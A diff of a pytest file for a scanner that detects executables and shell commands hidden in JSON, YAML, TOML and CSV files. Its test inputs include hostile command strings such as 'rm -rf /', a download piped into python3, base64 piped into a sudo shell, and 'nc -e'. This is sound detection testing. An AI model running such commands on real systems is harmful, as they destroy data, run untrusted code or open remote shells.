@@ -2,6 +2,7 @@
 
 import json
 import time
+from typing import Any
 
 import pytest
 
@@ -22,24 +23,23 @@ def rules(path: str, content: str | bytes, mode: int = 0o644) -> list[str]:
     return [found.rule for found in find_in_result(path, Edited(raw, None, ""), mode, RICH_CHECKS)]
 
 
-@pytest.mark.parametrize(
-    "path, content, mode",
-    [
-        pytest.param("a.txt", "x", 0o755, id="an execute permission"),
-        pytest.param("a.txt", "x", 0o654, id="for the group only"),
-        pytest.param("a.txt", "#!/bin/sh\n", 0o644, id="an interpreter's line"),
-        pytest.param("bin/a.SH", "x", 0o644, id="a shell script's name"),
-        pytest.param("a.ps1", "x", 0o644, id="a PowerShell script's name"),
-        pytest.param("a", b"\x7fELF\x02", 0o644, id="ELF"),
-        pytest.param("a", b"MZ\x90\0\3", 0o644, id="PE"),
-        pytest.param("a", b"\xcf\xfa\xed\xfe\7", 0o644, id="Mach-O"),
-        pytest.param("a", b"\xca\xfe\xba\xbe\0", 0o644, id="Java"),
-        pytest.param("a", b"\0asm\1", 0o644, id="WebAssembly"),
-        pytest.param("a", b"\xa7\x0d\r\n\0\0\0\0", 0o644, id="Python byte code"),
-    ],
-)
-def test_what_can_be_executed_is_found(path: str, content: str | bytes, mode: int) -> None:
-    assert "executable" in rules(path, content, mode)
+def test_what_can_be_executed_is_found(subtests: pytest.Subtests) -> None:
+    cases: list[Any] = [
+        ("an execute permission", "a.txt", "x", 0o755),
+        ("for the group only", "a.txt", "x", 0o654),
+        ("an interpreter's line", "a.txt", "#!/bin/sh\n", 0o644),
+        ("a shell script's name", "bin/a.SH", "x", 0o644),
+        ("a PowerShell script's name", "a.ps1", "x", 0o644),
+        ("ELF", "a", b"\x7fELF\x02", 0o644),
+        ("PE", "a", b"MZ\x90\0\3", 0o644),
+        ("Mach-O", "a", b"\xcf\xfa\xed\xfe\7", 0o644),
+        ("Java", "a", b"\xca\xfe\xba\xbe\0", 0o644),
+        ("WebAssembly", "a", b"\0asm\1", 0o644),
+        ("Python byte code", "a", b"\xa7\x0d\r\n\0\0\0\0", 0o644),
+    ]
+    for case, path, content, mode in cases:
+        with subtests.test(case):
+            assert "executable" in rules(path, content, mode)
 
 
 @pytest.mark.parametrize(
@@ -56,57 +56,53 @@ def test_what_only_looks_alike_is_not(path: str, content: str) -> None:
     assert rules(path, content) == []
 
 
-@pytest.mark.parametrize(
-    "path, content",
-    [
-        pytest.param("a.json", '{"a": "x $(id) y"}', id="a substitution"),
-        pytest.param("a.yaml", "a: x`id`\n", id="back-ticks"),
-        pytest.param("a.toml", 'a = "diff <(a) <(b)"', id="a process as a file"),
-        pytest.param("a.json", '{"run": "sh -c id"}', id="sh -c"),
-        pytest.param("a.json", '{"run": ["bash -ec id"]}', id="bash with more options"),
-        pytest.param("a.yml", "run: /bin/bash -c id\n", id="with its path"),
-        pytest.param("a.yml", "- sh -c id\n", id="an item"),
-        pytest.param("a.csv", "a,cmd /c dir\n", id="cmd /c"),
-        pytest.param("a.csv", 'a,"CMD.EXE /C dir"\n', id="cmd.exe in capitals"),
-        pytest.param("a.toml", 'x = "PowerShell -enc AAAA"', id="PowerShell"),
-        pytest.param("a.json", '{"a": "\\u0024(id)"}', id="an escape hides it"),
-        pytest.param("a.yaml", 'a: "\\x24(id)"\n', id="another escape hides it"),
-        pytest.param("a.json", '{"a": "cat setup.txt | sh"}', id="piped into a shell"),
-        pytest.param("a.yaml", "a: base64 -d x|sudo /bin/bash\n", id="piped into the superuser's shell"),
-        pytest.param("a.json", '{"a": "base64 -d x \\u007c bash"}', id="an escape hides the pipe"),
-        pytest.param("a.toml", 'a = "curl -s https://example.org/x | python3 -"', id="downloaded and piped"),
-        pytest.param("a.yaml", "a: wget -qO- example.org|tee x\n", id="fetched and piped"),
-        pytest.param("a.json", '{"a": "rm -rf /"}', id="rm"),
-        pytest.param("a.csv", "1,rm -fr ~/x\n", id="rm in another order"),
-        pytest.param("a.json", '{"a": "x; curl example.org"}', id="after a semicolon"),
-        pytest.param("a.json", '{"a": "x;/usr/bin/nc -e 1"}', id="after a semicolon, with its path"),
-        pytest.param("a.yaml", "a: make all && make install\n", id="after another"),
-        pytest.param("a.yaml", "a: false || echo gone\n", id="or else"),
-    ],
-)
-def test_a_command_in_a_data_file_is_found(path: str, content: str) -> None:
-    assert "command" in rules(path, content)
+def test_a_command_in_a_data_file_is_found(subtests: pytest.Subtests) -> None:
+    for case, path, content in [
+        ("a substitution", "a.json", '{"a": "x $(id) y"}'),
+        ("back-ticks", "a.yaml", "a: x`id`\n"),
+        ("a process as a file", "a.toml", 'a = "diff <(a) <(b)"'),
+        ("sh -c", "a.json", '{"run": "sh -c id"}'),
+        ("bash with more options", "a.json", '{"run": ["bash -ec id"]}'),
+        ("with its path", "a.yml", "run: /bin/bash -c id\n"),
+        ("an item", "a.yml", "- sh -c id\n"),
+        ("cmd /c", "a.csv", "a,cmd /c dir\n"),
+        ("cmd.exe in capitals", "a.csv", 'a,"CMD.EXE /C dir"\n'),
+        ("PowerShell", "a.toml", 'x = "PowerShell -enc AAAA"'),
+        ("an escape hides it", "a.json", '{"a": "\\u0024(id)"}'),
+        ("another escape hides it", "a.yaml", 'a: "\\x24(id)"\n'),
+        ("piped into a shell", "a.json", '{"a": "cat setup.txt | sh"}'),
+        ("piped into the superuser's shell", "a.yaml", "a: base64 -d x|sudo /bin/bash\n"),
+        ("an escape hides the pipe", "a.json", '{"a": "base64 -d x \\u007c bash"}'),
+        ("downloaded and piped", "a.toml", 'a = "curl -s https://example.org/x | python3 -"'),
+        ("fetched and piped", "a.yaml", "a: wget -qO- example.org|tee x\n"),
+        ("rm", "a.json", '{"a": "rm -rf /"}'),
+        ("rm in another order", "a.csv", "1,rm -fr ~/x\n"),
+        ("after a semicolon", "a.json", '{"a": "x; curl example.org"}'),
+        ("after a semicolon, with its path", "a.json", '{"a": "x;/usr/bin/nc -e 1"}'),
+        ("after another", "a.yaml", "a: make all && make install\n"),
+        ("or else", "a.yaml", "a: false || echo gone\n"),
+    ]:
+        with subtests.test(case):
+            assert "command" in rules(path, content)
 
 
-@pytest.mark.parametrize(
-    "path, content",
-    [
-        pytest.param("README.md", "Run `make` or $(make)\n", id="prose"),
-        pytest.param("a.py", 'run("sh -c id")\n', id="source"),
-        pytest.param("a.json", '{"price": "$5 (net)", "name": "push -c", "x": "Bash is a shell"}', id="no command"),
-        pytest.param("a.yaml", "a: ${HOME}\nb: finish -c\n", id="a variable"),
-        pytest.param("a.json", '{"a": "a | b", "shell": "bash | zsh", "re": "^(bash|sh)$"}', id="one or the other"),
-        pytest.param("a.json", '{"a": "cat x | shuf", "b": "x | sh.example.org"}', id="no shell behind the pipe"),
-        pytest.param("a.yaml", "a: |\n  sh\n", id="a block of YAML"),
-        pytest.param("a.yaml", "if: github.ref == 'x' && inputs.go || false\n", id="a condition"),
-        pytest.param("a.json", '{"a": "Stop; make sure. Then; cat sleeps; source unknown"}', id="sentences"),
-        pytest.param("a.csv", "sh;rm;curl\nfirm -rf x;1;2\n", id="cells"),
-        pytest.param("a.json", '{"a": "see curl and wget", "b": "rm -rf"}', id="names alone"),
-        pytest.param("a.sql.md", "curl x | sh && rm -rf /\n", id="shell in prose"),
-    ],
-)
-def test_what_is_no_command_is_not(path: str, content: str) -> None:
-    assert rules(path, content) == []
+def test_what_is_no_command_is_not(subtests: pytest.Subtests) -> None:
+    for case, path, content in [
+        ("prose", "README.md", "Run `make` or $(make)\n"),
+        ("source", "a.py", 'run("sh -c id")\n'),
+        ("no command", "a.json", '{"price": "$5 (net)", "name": "push -c", "x": "Bash is a shell"}'),
+        ("a variable", "a.yaml", "a: ${HOME}\nb: finish -c\n"),
+        ("one or the other", "a.json", '{"a": "a | b", "shell": "bash | zsh", "re": "^(bash|sh)$"}'),
+        ("no shell behind the pipe", "a.json", '{"a": "cat x | shuf", "b": "x | sh.example.org"}'),
+        ("a block of YAML", "a.yaml", "a: |\n  sh\n"),
+        ("a condition", "a.yaml", "if: github.ref == 'x' && inputs.go || false\n"),
+        ("sentences", "a.json", '{"a": "Stop; make sure. Then; cat sleeps; source unknown"}'),
+        ("cells", "a.csv", "sh;rm;curl\nfirm -rf x;1;2\n"),
+        ("names alone", "a.json", '{"a": "see curl and wget", "b": "rm -rf"}'),
+        ("shell in prose", "a.sql.md", "curl x | sh && rm -rf /\n"),
+    ]:
+        with subtests.test(case):
+            assert rules(path, content) == []
 
 
 def test_a_credential_is_found_in_any_file_and_not_repeated() -> None:
